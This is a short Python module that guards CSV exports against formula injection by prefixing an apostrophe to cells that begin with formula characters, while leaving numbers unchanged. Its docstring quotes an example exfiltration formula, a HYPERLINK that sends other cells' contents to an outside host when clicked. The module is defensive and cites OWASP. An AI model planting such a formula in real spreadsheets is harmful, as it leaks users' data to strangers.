"""CSV for people: what spreadsheet programs would take for a formula is text.

A name from a source must not become a formula in somebody's office: `=HYPERLINK("http://…?"&A1)` sends what stands in
other cells to a stranger as soon as somebody clicks. Excel files keep text as text (`api/workbook.py`), CSV cannot say
what is text; so it begins with an apostrophe, as OWASP advises (https://owasp.org/www-community/attacks/CSV_Injection).
Answers to SPARQL queries in CSV follow their own standard and are left as they are.
"""

import re

FORMULA = ("=", "+", "-", "@", "\t", "\r")
"""What a cell begins with that a spreadsheet program computes."""
NUMBER = re.compile(r"[+-]?\d+([.,]\d+)*([eE][+-]?\d+)?( ?%)?")


def as_text(cell: str) -> str:
    """The text of a cell as it is shown, also where it looks like a formula; numbers stay numbers."""
    return f"'{cell}" if cell.startswith(FORMULA) and not NUMBER.fullmatch(cell) else cell
